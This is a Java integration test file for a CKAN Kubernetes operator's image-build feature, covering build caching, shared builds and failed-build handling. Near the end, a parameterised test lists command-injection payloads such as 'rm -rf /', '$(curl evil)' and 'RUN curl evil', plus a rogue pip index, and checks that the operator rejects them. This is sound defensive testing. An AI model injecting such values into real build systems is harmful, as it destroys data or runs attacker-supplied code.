package io.ckan.operator.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.ckan.operator.api.BuildSpec;
import io.ckan.operator.api.CkanInstanceSpec;
import io.ckan.operator.api.ExtensionSpec;
import io.ckan.operator.api.GitSource;
import io.ckan.operator.contract.Labels;
import io.ckan.sim.ImageBuilds;
import io.ckan.sim.JobBehaviour;
import io.ckan.sim.Scenario;
import io.fabric8.kubernetes.api.model.apps.Deployment;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.function.Consumer;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Issue 4: release images built in the (simulated) cluster, content-addressed, cached and shared. */
class ImageBuildIntegrationTest extends IntegrationTest {
  static final String REGISTRY = "registry.example.org/ckan/portal";

  static CkanInstanceSpec spec(String version) {
    CkanInstanceSpec spec = RevisionRolloutIntegrationTest.spec(version, 2);
    ExtensionSpec dcat = new ExtensionSpec();
    dcat.name = "dcat";
    dcat.pip = "ckanext-dcat==2.4.4";
    dcat.plugins = List.of("dcat", "structured_data");
    ExtensionSpec harvest = new ExtensionSpec();
    harvest.name = "harvest";
    harvest.git = new GitSource();
    harvest.git.url = "https://github.com/ckan/ckanext-harvest";
    harvest.git.ref = "v1.6.2";
    harvest.requirementsFile = "pip-requirements.txt";
    harvest.plugins = List.of("harvest", "ckan_harvester");
    spec.extensions = new ArrayList<>(List.of(dcat, harvest));
    spec.plugins = new ArrayList<>(List.of("activity", "dcat", "structured_data", "harvest", "ckan_harvester"));
    spec.build = new BuildSpec();
    spec.build.registry = REGISTRY;
    spec.build.pushSecret = "registry-push";
    spec.rollout.bakeSeconds = 1;
    return spec;
  }

  static Scenario scenario() {
    return Scenario.create().timeScale(0.05);
  }

  List<Job> builds() {
    // only build Jobs (migration Jobs carry component=migrate)
    return h.client.batch().v1().jobs().inNamespace(OperatorHarness.NS)
        .withLabel(Labels.COMPONENT, Labels.BUILD).list().getItems();
  }

  String image(String instance, int revision) {
    Deployment d = h.revisions(instance).get(revision);
    return d.getSpec().getTemplate().getSpec().getContainers().get(0).getImage();
  }

  @Test
  void oneBuildPerImageAndNoneOnRollbackRestartOrForASecondInstance() {
    h = new OperatorHarness(scenario());
    h.apply(OperatorHarness.instance("portal", spec("2.11.4")));
    h.awaitReady("portal", 1, T);
    assertEquals(1, builds().size());
    Job build = builds().get(0);
    String image = image("portal", 1);
    assertEquals(REGISTRY + "@" + JobBehaviour.fakeDigest(build.getMetadata().getName()), image,
        "the Deployment runs the pushed digest, never the tag");
    String commits = h.revisions("portal").get(1).getMetadata().getAnnotations().get(Labels.RESOLVED_COMMITS);
    assertTrue(commits != null && commits.matches("\\{\"harvest\":\"[0-9a-f]{40}\"}"), commits);
    assertTrue(h.journal.stream().anyMatch(l -> l.contains("build " + build.getMetadata().getName() + " started")));

    h.edit("portal", s -> s.config = java.util.Map.of("ckan.site_url", "https://other.example.org"));
    h.awaitReady("portal", 2, T);
    assertEquals(1, builds().size(), "a config change reuses the image: no build");
    assertEquals(image, image("portal", 2));

    h.edit("portal", s -> s.version = "2.11.5");
    h.awaitReady("portal", 3, T);
    assertEquals(2, builds().size(), "a new core version is a new image");

    h.annotate("portal", Labels.ROLLBACK_TO, "1");
    h.watchUntil(T, () -> { }, x -> Integer.valueOf(1).equals(x.pointer("portal")));
    h.stopOperator();
    h.startOperator();
    h.watchUntil(T, () -> { }, x -> x.conditionIs("portal", "RolledBack", "True"));

    h.apply(OperatorHarness.instance("second", spec("2.11.4")));
    h.awaitReady("second", 1, T);
    assertEquals(image, image("second", 1), "the second instance runs the image the first one built");
    assertEquals(2, builds().size(), "no build on rollback, on restart, or for a second instance");
  }

  @Test
  void twoInstancesAskingAtOnceShareOneBuild() {
    Scenario scenario = scenario().whenJobComponent("build", ImageBuilds.pushes(Duration.ofSeconds(40)));
    h = new OperatorHarness(scenario);
    h.apply(OperatorHarness.instance("alpha", spec("2.11.4")));
    h.watchUntil(T, () -> { }, x -> builds().size() == 1);
    h.apply(OperatorHarness.instance("beta", spec("2.11.4")));
    h.awaitReady("alpha", 1, T);
    h.awaitReady("beta", 1, T);
    assertEquals(1, builds().size());
    Set<String> owners = builds().get(0).getMetadata().getOwnerReferences().stream().map(o -> o.getName())
        .collect(Collectors.toSet());
    assertEquals(Set.of("alpha", "beta"), owners, "both instances own the shared build");
  }

  @Test
  void aFailedBuildLeavesTheLiveRevisionServingAndIsRebuiltOnlyOnRequest() throws Exception {
    Scenario scenario = scenario();
    // the first build pushes, the second fails like pip's resolver, the retry pushes
    scenario.whenJobComponent("build", ImageBuilds.pushes(Duration.ofSeconds(10)),
        ImageBuilds.failsWithConflict(Duration.ofSeconds(10)), ImageBuilds.pushes(Duration.ofSeconds(10)));
    h = new OperatorHarness(scenario);
    h.apply(OperatorHarness.instance("portal", spec("2.11.4")));
    h.awaitReady("portal", 1, T);
    h.edit("portal", s -> s.version = "2.11.5");
    h.awaitCondition("portal", "Stalled", "True", T);
    var stalled = h.condition("portal", "Stalled");
    assertEquals("BuildFailed", stalled.getReason());
    assertTrue(stalled.getMessage().contains("conflicting dependencies"), stalled.getMessage());
    assertTrue(stalled.getMessage().contains("kubectl logs job/ckan-build-"), stalled.getMessage());
    assertEquals(1, h.pointer("portal"));
    assertTrue(h.conditionIs("portal", "Available", "True"));
    assertEquals(Set.of(1), h.revisions("portal").keySet(), "no Deployment for the failed release");

    Thread.sleep(1500);
    assertEquals(2, builds().size(), "no rebuild loop");
    h.annotate("portal", Labels.RETRY, "after-fix");
    h.awaitReady("portal", 2, T);
    assertEquals(2, builds().size(), "the failed build was replaced by one new build");
  }

  static Stream<Arguments> injections() {
    return Stream.of(
        Arguments.of("name", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(0).name = "dcat; rm -rf /"),
        Arguments.of("pip", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(0).pip =
            "ckanext-dcat==2.4.4 --index-url=http://evil"),
        Arguments.of("git url", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(1).git.url =
            "https://github.com/ckan/ckanext-harvest$(curl evil)"),
        Arguments.of("git ref", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(1).git.ref = "v1.6.2\nRUN curl evil"),
        Arguments.of("requirements", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(1).requirementsFile =
            "req.txt && curl evil"),
        Arguments.of("plugin", (Consumer<CkanInstanceSpec>) s -> s.plugins.set(0, "activity`id`")),
        Arguments.of("base image", (Consumer<CkanInstanceSpec>) s -> {
          s.image = new io.ckan.operator.api.ImageSpec();
          s.image.base = "ckan/ckan-base:2.11.5\nRUN curl evil";
        }),
        Arguments.of("registry", (Consumer<CkanInstanceSpec>) s -> s.build.registry = "reg.example.org/x y"));
  }

  @ParameterizedTest(name = "injection in {0}")
  @MethodSource("injections")
  void injectionIsRejectedBeforeAnyObjectIsCreated(String field, Consumer<CkanInstanceSpec> inject) {
    h = new OperatorHarness(scenario());
    CkanInstanceSpec spec = spec("2.11.4");
    inject.accept(spec);
    h.apply(OperatorHarness.instance("portal", spec));
    h.awaitCondition("portal", "Stalled", "True", T);
    assertEquals("InvalidSpec", h.condition("portal", "Stalled").getReason(), field);
    assertTrue(builds().isEmpty(), "no build Job");
    assertTrue(h.client.configMaps().inNamespace(OperatorHarness.NS).withLabel(Labels.MANAGED_BY, Labels.OPERATOR)
        .list().getItems().isEmpty(), "no ConfigMap");
    assertTrue(h.revisions("portal").isEmpty(), "no Deployment");
  }
}
